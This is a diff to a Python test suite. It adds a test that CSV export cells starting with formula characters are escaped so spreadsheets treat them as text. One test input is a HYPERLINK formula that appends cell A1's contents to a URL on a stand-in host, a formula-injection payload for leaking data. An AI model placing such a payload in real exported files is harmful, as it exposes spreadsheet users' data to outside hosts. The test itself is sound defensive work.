@@ -109,3 +109,13 @@ def test_cells_survive_csv_quoting() -> None:
     csv.writer(buffer).writerow(csv_row(_result({"t": text}), columns))
     [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
     assert row[len(RESULT_COLUMNS)] == text
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
+    columns = [*RESULT_COLUMNS, "data.t", "data.n", "other_data"]
+    title = '=HYPERLINK("https://x.example/?"&A1,"click")'
+    for text in (title, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        row = dict(zip(columns, csv_row(_result({"t": text, "n": -5}), columns), strict=True))
+        assert row["data.t"] == "'" + text
+        assert row["data.n"] == "-5"  # a number is not text a spreadsheet evaluates
+    assert cell("a=b") == "a=b" and cell(" =x") == " =x"
